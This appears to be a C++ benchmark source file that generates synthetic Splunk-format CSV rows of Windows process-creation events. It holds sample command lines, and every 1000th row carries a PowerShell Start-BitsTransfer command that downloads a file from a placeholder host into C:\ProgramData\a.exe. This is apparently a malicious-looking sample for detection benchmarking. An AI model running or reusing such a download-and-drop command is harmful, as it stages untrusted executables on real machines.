#include "synthetic_rows.h"

#include <array>
#include <cstdint>
#include <string_view>

#include "splunk/records/byte_buffer.h"
#include "splunk/records/csv.h"

namespace bench {
namespace {

constexpr std::array<std::string_view, 19> kColumns = {"_time",
                                                       "dest",
                                                       "user",
                                                       "process_name",
                                                       "process",
                                                       "process_path",
                                                       "process_id",
                                                       "process_guid",
                                                       "original_file_name",
                                                       "process_hash",
                                                       "process_current_directory",
                                                       "process_integrity_level",
                                                       "parent_process_name",
                                                       "parent_process",
                                                       "parent_process_path",
                                                       "parent_process_id",
                                                       "parent_process_guid",
                                                       "signature_id",
                                                       "source_dataset"};

constexpr std::array<std::string_view, 6> kCommands = {
    R"("C:\Program Files\Example\Agent\agent.exe" --type=utility --field-trial-handle=1840,9 --lang=de)",
    R"(C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule)",
    R"(powershell.exe -NoProfile -Command "Get-ChildItem 'C:\Data' | Where-Object { $_.Length -gt 1MB }")",
    R"(cmd.exe /d /s /c "node build.js --watch --out C:\build\out && copy /y C:\build\out \\files\drop")",
    R"(C:\Windows\System32\wbem\wmiprvse.exe -secured -Embedding)",
    R"("C:\Windows\Microsoft.NET\Framework64\v4.0.30319\ngen.exe" install "C:\Program Files\Example\Tool, v2\Tool.dll" /queue:3)"};

}  // namespace

std::string process_events(std::size_t rows) {
  splunk::records::ByteBuffer out;
  for (std::string_view column : kColumns) {
    splunk::records::append_field(out, column);
    out.append(',');
  }
  splunk::records::append_field(out, "_chunked_idx");
  for (std::string_view column : kColumns) {
    out.append(',');
    splunk::records::append_field(out, std::string("__mv_") + std::string(column));
  }
  out.append(R"(,"__mv__chunked_idx")");
  out.append('\n');

  std::uint64_t seed = 1;
  auto next = [&] { return seed = seed * 6364136223846793005U + 1442695040888963407U, seed >> 33; };
  for (std::size_t row = 0; row < rows; ++row) {
    const std::string number = std::to_string(next());
    const std::string_view command = kCommands[next() % kCommands.size()];
    std::string process(command.substr(0, 20 + next() % command.size()));
    if (row % 1000 == 999) {
      process = R"(powershell -c "Start-BitsTransfer -Source http://cdn.example.net/)" + number +
                R"( -Destination C:\ProgramData\a.exe")";
    }
    const std::string hash =
        "SHA1=6CBCE4A295C163791B60FC23D285E6D84F28EE4C,MD5=7353F60B1739074EB17" + number;
    const std::array<std::string, 19> fields = {"1700000000." + number.substr(0, 3),
                                                "WKS-" + number + ".corp.example",
                                                "CORP\\user" + number,
                                                "agent.exe",
                                                process,
                                                "C:\\Program Files\\Example\\Agent\\agent.exe",
                                                number,
                                                "{19b6e1a3-7ac1-6553-0000-0010" + number + "}",
                                                "agent.exe",
                                                hash,
                                                "C:\\Windows\\system32\\",
                                                "high",
                                                "services.exe",
                                                "C:\\Windows\\System32\\services.exe",
                                                "C:\\Windows\\System32\\services.exe",
                                                "644",
                                                "{19b6e1a3-7ac1-6553-0000-0010e8030000}",
                                                "1",
                                                "bench"};
    for (const std::string& field : fields) {
      splunk::records::append_field(out, field);
      out.append(',');
    }
    splunk::records::append_field(out, std::to_string(row));
    out.append(",,,,,,,,,,,,,,,,,,,,\n");
  }
  return std::string(out.view());
}

}  // namespace bench
